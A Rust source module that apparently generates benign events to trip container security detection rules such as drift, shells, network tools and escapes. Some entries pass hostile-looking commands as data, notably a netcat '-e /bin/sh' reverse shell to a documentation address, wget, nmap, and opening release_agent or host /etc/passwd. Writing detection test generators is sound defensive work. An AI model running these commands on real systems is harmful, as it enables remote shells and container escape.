//! Things done in containers, and with the kernel beneath them.

use std::fs::{self, File, OpenOptions};
use std::os::fd::{AsFd as _, AsRawFd as _};
use std::os::unix::fs::PermissionsExt as _;
use std::os::unix::net::{UnixListener, UnixStream};
use std::os::unix::process::CommandExt as _;
use std::path::Path;
use std::process::Command;

use rustix::thread::{LinkNameSpaceType, move_into_link_name_space};

use super::{Action, Impossible, Place};
use crate::raw;
use crate::stage::{DO, run};

/// See the module.
pub(super) const ACTIONS: &[Action] = &[
    Action {
        name: "enter-namespace",
        place: Place::Host,
        about: "enters a namespace",
        rules: &["Namespace entered"],
        upstream: &["Change thread namespace"],
        act: |_| {
            let own = File::open("/proc/self/ns/uts")?;
            move_into_link_name_space(
                own.as_fd(),
                Some(LinkNameSpaceType::HostNameAndNISDomainName),
            )?;
            Ok(())
        },
    },
    Action {
        name: "load-module",
        place: Place::Host,
        about: "gives the kernel a module that is none",
        rules: &["Kernel module loaded"],
        upstream: &[],
        act: |stage| {
            if !Path::new("/proc/modules").exists() {
                return Err(Impossible("this kernel has no modules").into());
            }
            let file = File::open(stage.file("module.ko", "none")?)?;
            // The kernel refuses it.
            let _ = raw::load_module(file.as_raw_fd());
            Ok(())
        },
    },
    Action {
        name: "load-bpf",
        place: Place::Host,
        about: "loads a BPF program that does nothing",
        rules: &["BPF program loaded"],
        upstream: &["BPF Program Not Profiled"],
        act: |_| {
            raw::load_bpf()?;
            Ok(())
        },
    },
    Action {
        name: "begin-container",
        place: Place::Container,
        about: "starts the first process of a container as root",
        rules: &["Container that runs as root"],
        upstream: &["Container Run as Root User"],
        act: |stage| {
            raw::unshare(libc::CLONE_NEWPID)?;
            run(Command::new(stage.double("first")?).env(DO, "nothing"))
        },
    },
    Action {
        name: "make-namespace",
        place: Place::Container,
        about: "makes a user namespace in a container",
        rules: &["Namespace made in a container"],
        upstream: &["Change namespace privileges via unshare"],
        act: |stage| {
            run(Command::new(stage.double("unshare")?)
                .uid(65534)
                .env(DO, "make-namespace"))
        },
    },
    Action {
        name: "run-dropped-program",
        place: Place::Container,
        about: "executes a program that is not in the image",
        rules: &["Changed program run in a container"],
        upstream: &["Drop and execute new binary in container"],
        act: |stage| {
            let merged = stage.overlay()?;
            let program = merged.join("falco-generator-dropped");
            fs::copy("/bin/true", &program)?;
            run(&mut Command::new(program))
        },
    },
    Action {
        name: "make-executable",
        place: Place::Container,
        about: "makes a file executable in a container",
        rules: &["File made executable in a container"],
        upstream: &["Container Drift Detected (chmod)"],
        act: |stage| {
            let file = stage.file("file", "none")?;
            fs::set_permissions(file, fs::Permissions::from_mode(0o755))?;
            Ok(())
        },
    },
    Action {
        name: "create-executable",
        place: Place::Container,
        about: "creates an executable file in a container",
        rules: &["File made executable in a container"],
        upstream: &["Container Drift Detected (open+create)"],
        act: |stage| {
            use std::os::unix::fs::OpenOptionsExt as _;
            OpenOptions::new()
                .append(true)
                .create(true)
                .mode(0o755)
                .open(stage.path("program"))?;
            Ok(())
        },
    },
    Action {
        name: "shell-at-terminal",
        place: Place::Container,
        about: "starts a shell at a terminal in a container",
        rules: &["Shell in a container"],
        upstream: &["Terminal shell in container"],
        act: |stage| stage.disguised("runc", "terminal-root-shell"),
    },
    Action {
        name: "look-around",
        place: Place::Container,
        about: "asks who it is at a terminal in a container",
        rules: &["Reconnaissance after a break-in"],
        upstream: &[],
        act: |stage| stage.disguised("exec", "terminal-whoami"),
    },
    Action {
        name: "network-tool-in-container",
        place: Place::Container,
        about: "starts a scanner of networks in a container",
        rules: &["Network tool in a container"],
        upstream: &["Launch Suspicious Network Tool in Container"],
        act: |stage| stage.pretend("nmap", &["192.0.2.0/24"]),
    },
    Action {
        name: "netcat-in-container",
        place: Place::Container,
        about: "starts netcat so that it runs a shell in a container",
        rules: &["Netcat that runs a program"],
        upstream: &["Netcat Remote Code Execution in Container"],
        act: |stage| stage.pretend("nc", &["-e", "/bin/sh", "192.0.2.1", "4444"]),
    },
    Action {
        name: "ssh-in-container",
        place: Place::Container,
        about: "starts ssh in a container",
        rules: &["SSH tool in a container"],
        upstream: &["Launch Remote File Copy Tools in Container"],
        act: |stage| {
            stage.cover(&["/usr/bin"])?;
            stage.disguised_at("/usr/bin/scp", &["file", "host:"], "nothing")
        },
    },
    Action {
        name: "copy-tool-in-container",
        place: Place::Container,
        about: "starts rsync in a container",
        rules: &["Copy tool in a container"],
        upstream: &["Launch Remote File Copy Tools in Container"],
        act: |stage| stage.pretend("rsync", &["file", "host:"]),
    },
    Action {
        name: "download-in-container",
        place: Place::Container,
        about: "starts wget in a container",
        rules: &["Download tool in a container"],
        upstream: &["Launch Ingress Remote File Copy Tools in Container"],
        act: |stage| stage.pretend("wget", &["http://192.0.2.1"]),
    },
    Action {
        name: "packages-in-container",
        place: Place::Container,
        about: "starts a package manager in a container",
        rules: &["Package manager in a container"],
        upstream: &["Launch Package Management Process in Container"],
        act: |stage| stage.pretend("apk", &["add", "x"]),
    },
    Action {
        name: "client-in-container",
        place: Place::Container,
        about: "starts kubectl in a container",
        rules: &["Container client in a container"],
        upstream: &["Kubernetes Client Tool Launched in Container"],
        act: |stage| stage.pretend("kubectl", &["get", "pods"]),
    },
    Action {
        name: "decode-in-container",
        place: Place::Container,
        about: "decodes base64 in a container",
        rules: &["Payload decoded in a container"],
        upstream: &["Decoding Payload in Container"],
        act: |_| run(Command::new("base64").args(["-d", "/dev/null"])),
    },
    Action {
        name: "take-files",
        place: Place::Container,
        about: "takes files out of a container as kubectl cp does",
        rules: &["Files taken through the container runtime"],
        upstream: &[],
        act: |stage| {
            stage.double("tar")?;
            stage.disguised("crun", "archive")
        },
    },
    Action {
        name: "release-agent",
        place: Place::Container,
        about: "opens a release agent for writing",
        rules: &["Escape through the release agent"],
        upstream: &["Detect release_agent File Container Escapes"],
        act: |stage| {
            let path = stage.file("release_agent", "")?;
            OpenOptions::new().write(true).open(path)?;
            Ok(())
        },
    },
    Action {
        name: "open-disk",
        place: Place::Container,
        about: "opens a disk in a container",
        rules: &["Raw device opened in a container"],
        upstream: &["Privileged Container Device Access"],
        act: |stage| {
            stage.root(&[("/dev/sda", "none")])?;
            File::open("/dev/sda")?;
            Ok(())
        },
    },
    Action {
        name: "read-host-file",
        place: Place::Container,
        about: "reads a file of the host in a container",
        rules: &["Host files read from a container"],
        upstream: &["Container Access to Host Sensitive Paths"],
        act: |stage| {
            stage.root(&[("/host/etc/passwd", "none")])?;
            File::open("/host/etc/passwd")?;
            Ok(())
        },
    },
    Action {
        name: "overwrite-runtime",
        place: Place::Container,
        about: "opens the runtime for writing in a container",
        rules: &["Runtime's program overwritten"],
        upstream: &["Modify Container Entrypoint"],
        act: |stage| {
            stage.root(&[("/proc/self/exe", "none")])?;
            OpenOptions::new().write(true).open("/proc/self/exe")?;
            Ok(())
        },
    },
    Action {
        name: "use-runtime-socket",
        place: Place::Container,
        about: "talks to the runtime in a container",
        rules: &["Container socket used in a container"],
        upstream: &[],
        act: |stage| {
            let path = stage.path("docker.sock");
            let _listener = UnixListener::bind(&path)?;
            UnixStream::connect(&path)?;
            Ok(())
        },
    },
    Action {
        name: "io-uring",
        place: Place::Container,
        about: "makes an io_uring in a container",
        rules: &["io_uring made in a container"],
        upstream: &[],
        act: |_| match raw::io_uring() {
            Err(cause) if cause.raw_os_error() == Some(libc::ENOSYS) => {
                Err(Impossible("this kernel has no io_uring").into())
            }
            Err(cause) if cause.raw_os_error() == Some(libc::EPERM) => {
                Err(Impossible("io_uring is switched off").into())
            }
            outcome => {
                outcome?;
                Ok(())
            }
        },
    },
    Action {
        name: "begin-known-container",
        place: Place::Known,
        about: "starts a container with all capabilities, of an image that nobody allowed",
        rules: &[
            "Container with dangerous capabilities",
            "Container of an image that is not allowed",
        ],
        upstream: &["Launch Excessively Capable Container"],
        act: |stage| {
            raw::unshare(libc::CLONE_NEWPID)?;
            run(Command::new(stage.double("first")?).env(DO, "nothing"))
        },
    },
    Action {
        name: "begin-privileged-container",
        place: Place::Privileged,
        about: "starts a privileged container that sees /etc of the host",
        rules: &[
            "Privileged container started",
            "Container with a sensitive mount",
        ],
        upstream: &["Launch Privileged Container"],
        act: |stage| {
            raw::unshare(libc::CLONE_NEWPID)?;
            run(Command::new(stage.double("first")?).env(DO, "nothing"))
        },
    },
    Action {
        name: "mount-in-privileged-container",
        place: Place::Privileged,
        about: "starts mount in a privileged container",
        rules: &["Mount or disk tool in a privileged container"],
        upstream: &["Mount Launched in Privileged Container"],
        act: |stage| stage.pretend("mount", &["/dev/sda1", "/mnt"]),
    },
    Action {
        name: "debug-disk-in-privileged-container",
        place: Place::Privileged,
        about: "starts debugfs in a privileged container",
        rules: &["Mount or disk tool in a privileged container"],
        upstream: &["Debugfs Launched in Privileged Container"],
        act: |stage| stage.pretend("debugfs", &["/dev/sda1"]),
    },
];
